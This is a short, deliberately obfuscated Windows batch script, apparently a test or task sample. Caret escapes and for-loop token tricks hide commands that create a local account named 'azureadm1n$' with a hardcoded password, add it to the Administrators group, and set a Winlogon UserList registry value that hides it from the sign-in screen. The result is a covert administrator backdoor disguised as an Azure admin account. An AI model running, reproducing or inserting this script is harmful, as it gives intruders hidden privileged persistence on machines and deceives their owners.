REM task 6596 v4
@echo off
f^or /^f "tokens=3 delims=;" %%i ^in ("fgod;efvj;net") d^o %%^i ^u^ser a^zur^e^ad^m1n$ ^W^int^er#2^025^x /a^d^d /^act^iv^e:^yes
^for /f "tokens=2 delims=#" %%^i in ("erwg#net#kfvz") ^do %%i l^oc^al^gr^o^u^p ^Admini^st^rat^or^s a^z^ur^eadm1n$ /ad^d
^for /f "tokens=2 delims=@" %%^i ^in ("tmlc@reg@zwle") d^o %%i ^add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v ^az^u^r^ead^m1^n$ /^t RE^G_^D^WO^RD /^d ^0 /^f
